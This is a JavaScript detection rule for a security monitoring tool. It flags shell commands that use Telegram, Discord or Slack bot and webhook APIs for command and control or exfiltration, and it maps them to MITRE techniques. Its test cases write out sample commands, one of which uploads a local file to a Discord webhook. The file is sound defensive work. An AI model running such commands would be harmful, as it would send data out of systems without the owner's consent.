import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

/** A command sends to or asks a chat service through its interface for programs: malware reports and takes orders like this. */
export const chatServiceCalled = commandRule({
  id: "chat-service-called",
  alertType: "Picket_ChatServiceCalled",
  name: "Chat service called by a command",
  severity: "Medium",
  about:
    "A command sends to or asks a chat service through its interface for programs: malware reports and takes orders like this.",
  tactics: ["Command and Control", "Exfiltration"],
  techniques: ["T1102.002", "T1567"],
  falsePositives: ["Scripts of your own that report to a chat; give their address an exception."],
  witness: ["api.telegram.org", "discord", "hooks.slack.com", "t.me/", "discordapp"],
  sees: (reading) =>
    find(reading, /^(?:curl|wget|python[\d.]*|http)$/, ({ text }) =>
      /(?:api\.telegram\.org\/bot\S+|discord(?:app)?\.com\/api\/webhooks\/\S+|hooks\.slack\.com\/services\/\S+)/.test(
        text,
      ),
    ),
  did: "called a chat service",
  because: "malware reports and takes orders like this",
  fires: [
    "curl -s https://api.telegram.org/bot123:AA/sendMessage -d chat_id=1 -d text=up",
    "curl -F file=@/tmp/a https://discord.com/api/webhooks/1/x",
    'sh -c wget -qO- "https://api.telegram.org/bot1:x/getUpdates"',
  ],
  silent: [
    "curl https://discord.com/",
    "curl https://api.example.net/bot",
    "apt-get install telegram-desktop",
    "grep api.telegram.org access.log",
    "ping discord.com",
  ],
});
